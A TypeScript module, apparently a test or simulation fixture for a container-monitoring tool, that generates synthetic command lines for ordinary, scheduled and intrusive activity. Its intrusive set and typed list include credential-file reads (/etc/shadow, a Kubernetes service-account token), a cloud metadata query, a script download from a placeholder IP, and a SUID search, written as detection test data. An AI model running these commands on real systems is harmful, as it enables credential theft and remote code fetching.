/**
 * Owns: what is typed and what runs by itself: the words of commands. No secrets are in them, which
 * podwitness would take out.
 */
import type { Random } from '../random.ts';

/** One program with the programs that it starts. */
export interface Program {
  readonly argv: readonly string[];
  readonly children: readonly (readonly string[])[];
  /** About how long it runs, ms. */
  readonly lasts: number;
}

function program(line: string, lasts = 40, ...children: string[]): Program {
  return { argv: line.split(' '), children: children.map((c) => c.split(' ')), lasts };
}

const TYPED: readonly ((random: Random) => Program)[] = [
  () => program('ls -la /app'),
  (r) => program(`ls -l /var/log/app-${r.int(1, 30)}`),
  () => program('ps aux'),
  () => program('df -h'),
  () => program('id'),
  () => program('whoami'),
  () => program('env'),
  (r) => program(`cat /etc/pay/config-${r.int(1, 9)}.yaml`),
  () => program('cat /etc/os-release'),
  (r) => program(`tail -n ${r.int(10, 500)} /var/log/app.log`, 25),
  (r) => program(`grep -c timeout /var/log/app-${r.int(1, 30)}.log`, 120),
  (r) => program(`curl -sS http://ledger.payments.svc:8080/orders/${r.int(1000, 99_999)}`, 150),
  () => program('curl -s http://169.254.169.254/latest/meta-data/', 300),
  (r) => program(`vi /etc/pay/config-${r.int(1, 9)}.yaml`, 40_000),
  (r) => program(`rm -f /tmp/dump-${r.hex(6)}`),
  () => program('netstat -tlpn', 60),
  () => program('ss -s', 30),
  (r) => program(`psql -U app -c select count(*) from orders where id > ${r.int(1, 999)}`, 300),
  (r) => program(`python3 -c print(${r.int(1, 99)}*${r.int(1, 99)})`, 80),
  () => program('top -b -n 1', 500),
  (r) => program(`find /app -name *.${r.pick(['jar', 'js', 'so'])}`, 400),
  (r) =>
    program(
      `sh -c wc -l /var/log/*.log | sort -n | tail -${r.int(1, 9)}`,
      90,
      'wc -l /var/log/app.log',
      'sort -n',
      'tail -5',
    ),
  (r) => program(`tar czf /tmp/logs-${r.hex(4)}.tgz /var/log`, 900, 'gzip'),
  (r) => program(`kill -HUP ${r.int(2, 400)}`),
  () => program('cat /var/run/secrets/kubernetes.io/serviceaccount/namespace'),
  (r) => program(`nslookup ${r.pick(['db', 'ledger', 'shop'])}.production.svc.cluster.local`, 70),
  (r) => program(`head -c ${r.int(100, 9000)} /dev/urandom`, 20),
  () => program('uname -a'),
  () => program('mount'),
  (r) => program(`less /var/log/<app> & "${r.hex(4)}"`, 9000),
  (r) => program(`printf ünïcode-${r.hex(3)}`, 5),
  () => program('cat /etc/shadow', 6),
];

export function typed(random: Random): Program {
  return random.pick(TYPED)(random);
}

const SINGLE: readonly ((random: Random) => Program)[] = [
  () => program('id', 8),
  (r) => program(`ls -l /tmp/${r.hex(3)}`, 15),
  () => program('cat /etc/os-release', 12),
  () => program('date', 9),
  (r) => ({
    ...program('', 60, 'cat /etc/os-release', 'grep ID'),
    argv: ['sh', '-c', `cat /etc/os-release | grep ID${r.int(1, 99)}`],
  }),
  (r) => ({
    ...program('', 700, 'curl -sS http://localhost:8080/health', 'sleep 1'),
    argv: ['sh', '-c', `curl -sS http://localhost:8080/health; sleep 1; echo ${r.hex(4)}`],
  }),
  (r) => program(`/app/bin/migrate --to ${r.int(10, 400)}`, 9000),
  (r) => ({ ...program('', 50), argv: ['touch', `/tmp/a b ${r.hex(3)}`] }),
];

/** What is run by an exec that is no shell. */
export function single(random: Random): Program {
  return random.pick(SINGLE)(random);
}

function inShell(script: string, children: string[], lasts = 60): Program {
  return { argv: ['/bin/sh', '-c', script], children: children.map((c) => c.split(' ')), lasts };
}

const HABITS: Readonly<Record<string, (random: Random) => Program>> = {
  'probe-http': () =>
    inShell('wget -q -O /dev/null http://127.0.0.1:8080/healthz', [
      'wget -q -O /dev/null http://127.0.0.1:8080/healthz',
    ]),
  'pg-isready': () => inShell('exec pg_isready -U postgres -h 127.0.0.1 -p 5432', []),
  'nginx-test': () => program('nginx -t', 30),
  jcmd: (r) => program(`/opt/java/bin/jcmd ${r.int(5, 30)} GC.heap_info`, 200),
  report: (r) =>
    program(
      `/app/bin/report --run ${r.uuid()} --day 2026-03-${String(r.int(1, 28)).padStart(2, '0')}`,
      3000,
      'sort -u',
      `split -l ${r.int(1, 9)}000`,
    ),
  'archive-wal': (r) =>
    inShell(`cp pg_wal/0000000100000000000000${r.hex(2).toUpperCase()} /archive/`, [
      `cp pg_wal/0000000100000000000000${r.hex(2).toUpperCase()} /archive/`,
    ]),
  thumbnail: (r) =>
    program(`convert /data/in/${r.hex(16)}.png -resize 120x120 /data/out/${r.hex(16)}.png`, 700),
  rotate: (r) =>
    inShell(`/usr/local/bin/rotate.sh /var/log/app.${r.int(1_770_000_000, 1_780_000_000)}`, [
      `gzip /var/log/app.${r.int(1_770_000_000, 1_780_000_000)}`,
      'find /var/log -mtime +7',
    ]),
  tick: (r) => program(`/usr/bin/worker-tick --batch ${r.int(1, 99_999)}`, 900),
};

export function habitual(name: string, random: Random): Program {
  const make = HABITS[name];
  if (make === undefined) throw new Error(`No habit ${name}`);
  return make(random);
}

/** What somebody runs who came without being asked in. */
export function intrusive(random: Random): Program {
  return random.pick([
    program('id', 6),
    program('cat /etc/shadow', 9),
    program('cat /var/run/secrets/kubernetes.io/serviceaccount/token', 8),
    program(`wget -q http://198.51.100.${random.int(1, 200)}/x.sh`, 400),
    program(`find / -perm -4000 -name *${random.hex(2)}*`, 2000),
    program('ps -ef', 30),
  ]);
}
